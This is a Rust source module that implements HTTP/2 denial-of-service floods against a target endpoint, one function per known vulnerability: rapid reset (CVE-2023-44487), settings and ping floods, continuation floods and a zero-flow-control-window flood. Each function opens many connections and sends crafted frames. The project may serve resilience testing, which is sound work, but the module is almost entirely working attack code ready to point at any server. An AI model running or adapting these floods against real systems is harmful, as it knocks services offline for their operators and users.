//! Attacks with floods of HTTP/2 frames.

use crate::flood::Endpoint;
use crate::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS, block, frame, hello,
};
use std::io::Read;
use std::net::TcpStream;

fn request(endpoint: &Endpoint) -> Vec<u8> {
    let key = endpoint.key().map(|key| format!("Bearer {key}"));
    let mut fields =
        vec![(":method", "POST"), (":scheme", "http"), (":path", endpoint.path()), (":authority", "h")];
    fields.extend(key.iter().map(|key| ("authorization", &**key)));
    block(&fields)
}

/// Opens a connection and sends the preface with these settings.
fn open(endpoint: &Endpoint, settings: &[u8]) -> TcpStream {
    let mut stream = endpoint.connect();
    Endpoint::push(&mut stream, &hello(settings));
    stream
}

/// CVE-2023-44487: each request is reset immediately.
pub(crate) fn rapid_reset(endpoint: &Endpoint) -> Vec<TcpStream> {
    let head = request(endpoint);
    let begin = |_| {
        let mut stream = open(endpoint, &[]);
        for batch in 0..20_u32 {
            let mut bytes = Vec::new();
            for nth in 0..100 {
                let id = 2 * (batch * 100 + nth) + 1;
                bytes.extend(frame(HEADERS, END_HEADERS, id, &head));
                bytes.extend(frame(RST_STREAM, 0, id, &8_u32.to_be_bytes()));
            }
            Endpoint::push(&mut stream, &bytes);
        }
        stream
    };
    (0..10).map(begin).collect()
}

/// CVE-2019-9515 and CVE-2019-9512: each frame requires an answer, which the client never reads.
pub(crate) fn settings_flood(endpoint: &Endpoint) -> Vec<TcpStream> {
    let mut bytes = Vec::new();
    for _ in 0..2_500 {
        bytes.extend(frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]));
        bytes.extend(frame(PING, 0, 0, &[0; 8]));
    }
    let begin = |_| {
        let mut stream = open(endpoint, &[]);
        Endpoint::push(&mut stream, &bytes);
        stream
    };
    (0..10).map(begin).collect()
}

/// CVE-2024-27316: the request head never ends.
pub(crate) fn continuation_flood(endpoint: &Endpoint) -> Vec<TcpStream> {
    let more = frame(CONTINUATION, 0, 1, &block(&[("x-more", &"a".repeat(16_000))]));
    let begin = |_| {
        let mut stream = open(endpoint, &[]);
        Endpoint::push(&mut stream, &frame(HEADERS, 0, 1, &request(endpoint)));
        (0..500).for_each(|_| Endpoint::push(&mut stream, &more));
        stream
    };
    (0..10).map(begin).collect()
}

/// CVE-2019-9517: responses are requested, but flow control never allows the server to send them.
pub(crate) fn no_window(endpoint: &Endpoint) -> Vec<TcpStream> {
    let row = format!("[{}]", ["1"; 64].join(","));
    let body = format!("{{\"data\":[{}]}}", vec![row; 80].join(","));
    let begin = |_| {
        // SETTINGS_INITIAL_WINDOW_SIZE 0.
        let mut stream = open(endpoint, &[0, 4, 0, 0, 0, 0]);
        for nth in 0..100 {
            let id = 2 * nth + 1;
            let mut bytes = frame(HEADERS, END_HEADERS, id, &request(endpoint));
            bytes.extend(frame(DATA, END_STREAM, id, body.as_bytes()));
            Endpoint::push(&mut stream, &bytes);
        }
        // Does not wait for more than the start of the server's answer.
        let mut some = [0; 9];
        let _ = stream.read(&mut some);
        stream
    };
    (0..20).map(begin).collect()
}
